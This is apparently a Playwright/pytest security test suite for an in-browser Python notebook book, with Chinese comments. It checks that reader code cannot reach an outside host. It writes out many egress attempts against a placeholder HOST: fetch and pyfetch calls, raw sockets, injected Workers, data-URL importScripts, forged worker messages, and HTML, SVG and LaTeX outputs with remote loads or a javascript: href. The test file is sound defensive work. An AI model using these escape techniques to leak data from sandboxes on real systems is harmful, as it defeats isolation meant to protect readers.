"""读者的代码想出去：自己起 Worker，开窗口，替读者点链接；“别处”一次也没有被问到。"""

from pathlib import Path

import prose
import pytest
from inpage import CHAPTER, InPage

pytestmark = pytest.mark.usefixtures("inpage_built")


@pytest.fixture(scope="module")
def caged(inpage_context, http):
    """准备好了的一页，几个测试共用；没有走成的导航，playwright 一直等着，别的测试不能用它。"""
    page = inpage_context.new_page()
    page.goto(http + CHAPTER)
    inpage = InPage(page)
    assert inpage.press() == ""
    yield inpage
    page.close()
    inpage_context.log.problems.clear()
    inpage_context.log.requests.clear()


@pytest.fixture
def cage(caged, elsewhere):
    """(一页, 别处的地址, 谁来过)"""
    return caged, *elsewhere


# ── 自己起 Worker ────────────────────────────────────────────────────────
FLOOD = """async ([url, host, kind]) => {
  const manifest = selfattnLive.runner.manifest;
  const messages = [
    { type: "start", base: `http://${host}/`, manifest, packages: ["numpy"], folder: "book" },
    { type: "keep", urls: [`http://${host}/keep`] },
    { type: "run", run: "1", code: "1", name: "x", ratio: 1 },
  ];
  const shared = kind == "shared";
  const worker = shared ? new SharedWorker(url) : new Worker(url, { type: kind });
  const port = shared ? worker.port : worker;
  const ended = new Promise(done => (worker.onerror = () => done("起不来")));
  const said = new Promise(done => (port.onmessage = ({ data }) => done(data.type)));
  for (const message of messages) port.postMessage(message);
  return Promise.race([ended, said, new Promise(done => setTimeout(done, 1500, "没有动静"))]);
}"""
PROBE = """async host => { // 等前面的请求都该到了
  const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" })));
  await new Promise(done => (worker.onmessage = done));
}"""


def test_no_script_of_the_site_is_a_way_out_as_a_worker(cage, site):
    """从地址起的 Worker 没有 CSP：本站的每一个脚本，起来了也不听别人的。"""
    inpage, host, came = cage
    page = inpage.page
    scripts = [path.relative_to(site).as_posix() for path in site.rglob("*.js")]
    assert any("worker-" in name for name in scripts) and "live-sw.js" in scripts
    root = page.url.removesuffix(CHAPTER)
    ways = [[root + name, host, kind] for name in scripts for kind in ("classic", "module", "shared")]
    assert set(page.evaluate(f"ways => Promise.all(ways.map({FLOOD}))", ways)) <= {"起不来", "没有动静"}
    assert came == []


BLOB = """async messages => {
  const { base, manifest } = selfattnLive.runner;
  const script = URL.createObjectURL(new Blob([`importScripts("${base + manifest.worker}")`]));
  const worker = new Worker(script);
  const said = [];
  for (const message of messages) {
    if (message?.manifest) message.manifest = manifest;
    worker.postMessage(message);
    said.push(await new Promise(done => (worker.onmessage = ({ data }) => done(data.message))));
  }
  return said;
}"""


def test_the_worker_takes_only_its_own_site_and_known_messages(cage):
    inpage, host, came = cage
    own = inpage.page.url.removesuffix(CHAPTER) + "_live/"
    start = {"type": "start", "manifest": {}, "packages": [], "folder": "book", "platform": ""}
    malformed = [
        None,
        "start",
        {"type": "constructor"},
        {"type": "__proto__"},
        {"type": "keep", "urls": []},
        start,
        start | {"base": own, "packages": "numpy"},
        start | {"base": own, "folder": 1},
        {"type": "run", "run": "1", "code": 1, "name": "x", "ratio": 1},
        {"type": "comm", "run": "1", "kind": "comm_open", "comm": "x", "data": "{}", "buffers": [], "ratio": 1},
    ]
    foreign = [start | {"base": base} for base in (f"http://{host}/", f"http://{host}@{host}/", own.removesuffix("/"))]
    said = inpage.page.evaluate(BLOB, malformed + foreign)
    assert said[: len(malformed)] == ["不认得的消息"] * len(malformed)
    assert all("不是本站的" in words for words in said[len(malformed) :]) and came == []


# ── 窗口、链接、表单 ──────────────────────────────────────────────────────
TEXT = Path(prose.ROOT, "tests", "support", "ways_out.js").read_text(encoding="utf-8")
WAYS = dict(part.split("\n", 1) for part in TEXT.removeprefix("// ").split("\n// "))
CELL = """from IPython.display import HTML
display(HTML(r'''<script>try { WAY } catch (error) { console.log(String(error)) }</script>'''))"""


def test_the_ways_are_many():
    assert len(WAYS) >= 55 and all("HOST" in code for code in WAYS.values())


@pytest.mark.parametrize("way", WAYS)
def test_no_window_and_no_click_leads_out(cage, way):
    """真的点「运行」，浏览器这时肯让脚本开窗口。"""
    inpage, host, came = cage
    page = inpage.page
    pages = len(page.context.pages)
    k = inpage.write(CELL.replace("WAY", WAYS[way]).replace("HOST", host))
    inpage.cell(k).get_by_role("button", name="运行").click()
    inpage.wait()
    page.evaluate(PROBE, host)
    assert inpage.text("print('还在')") == "还在\n"
    assert page.url.partition("#")[0].endswith(CHAPTER) and len(page.context.pages) == pages
    assert came == []


def test_a_click_made_for_the_reader_inside_the_book_still_works(cage):
    """脚本点的，里面的照走，存下自己造的文件也行，只是不开新窗口。"""
    page = cage[0].page
    pages = len(page.context.pages)
    click = "given => Object.assign(document.body.appendChild(document.createElement('a')), given).click()"
    page.evaluate(click, {"href": "#inside", "target": "_blank"})
    page.wait_for_url("**#inside")
    with page.expect_download() as download:
        page.evaluate(f"({click})({{ href: URL.createObjectURL(new Blob(['字'])), download: 'x.txt' }})")
    assert download.value.suggested_filename == "x.txt" and len(page.context.pages) == pages


PYTHON = """
import js, pyodide_js
from pyodide.code import run_js
from pyodide.ffi import to_js
from pyodide.http import pyfetch
refused = 0
async def refuse(act):
    global refused
    try:
        result = act()
        if hasattr(result, "__await__"):
            await result
    except BaseException:
        refused += 1
URL = "http://HOST/"
post = lambda message: js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
await refuse(lambda: pyfetch(URL + "pyfetch"))
await refuse(lambda: js.Object.getPrototypeOf(js.self).fetch(URL + "prototype"))
await refuse(lambda: __import__("pyodide.http", fromlist="x").open_url(URL + "open_url"))
await refuse(lambda: __import__("urllib.request", fromlist="x").urlopen(URL + "urllib"))
await refuse(lambda: __import__("socket").create_connection(("127.0.0.1", int("HOST".split(":")[1])), 1).send(b"x"))
await refuse(lambda: pyodide_js.loadPackage(URL + "x-1-py3-none-any.whl", checkIntegrity=False))
await refuse(lambda: run_js("1 + 1"))
await refuse(lambda: js.Function.new("1"))
await refuse(lambda: js.importScripts("data:text/javascript,fetch('" + URL + "data')"))
js.EventSource.new(URL + "events")
for source in ("data:text/javascript,fetch('" + URL + "nested')", URL + "worker.js"):
    await refuse(lambda: js.Worker.new(source))
post({"type": "used", "url": URL + "used"})
post({"type": "fatal", "message": "x", "address": URL + "fatal", "run": "没有这一次"})
post({"type": "没有这种"})
print(refused >= 7)"""


def test_python_has_no_other_way_out(caged, elsewhere):
    """Python 自己的几种取法，套接字，Worker 里的 Worker，假的消息；最后一样让页面换一个 Python。"""
    host, came = elsewhere
    assert caged.run(PYTHON.replace("HOST", host))
    caged.wait()
    caged.page.evaluate(PROBE, host)
    assert caged.text("print('还在')") == "还在\n" and came == []


OUTPUTS = r"""
import ipywidgets as w
from IPython.display import Latex, Markdown, SVG, display
from selfattn import say, table
display(w.HTML("<img src='http://HOST/html'><iframe src='http://HOST/frame'></iframe>"))
display(w.Image(value=b"http://HOST/image", format="url"), w.Video(value=b"http://HOST/video", format="url"))
display(Markdown("![](http://HOST/markdown) <img src='http://HOST/inside'> $\includegraphics{http://HOST/tex}$"))
display(Latex(r"$\href{javascript:fetch('http://HOST/href')}{x} \htmlStyle{background:url(http://HOST/style)}{x}$"))
display(SVG(data="<svg xmlns='http://www.w3.org/2000/svg'><image href='http://HOST/svg'/></svg>"))
display({"application/javascript": "fetch('http://HOST/script').catch(() => {})"}, raw=True)
say("![](http://HOST/say)")
table(["a"], [["<img src=http://HOST/cell>"]])"""


def test_no_output_fetches_from_elsewhere(caged, elsewhere):
    host, came = elsewhere
    caged.run(OUTPUTS.replace("HOST", host))
    caged.page.evaluate(PROBE, host)
    assert caged.text("print('还在')") == "还在\n" and came == []


def test_edits_that_cannot_be_kept_are_said_once(caged):
    page = caged.page
    page.evaluate("() => { Storage.prototype.setItem = () => { throw new Error('满了') } }")
    for code in ("1", "2"):
        caged.write(code)
    assert page.locator(".live-offer", has_text="改动就没有了").count() == 1
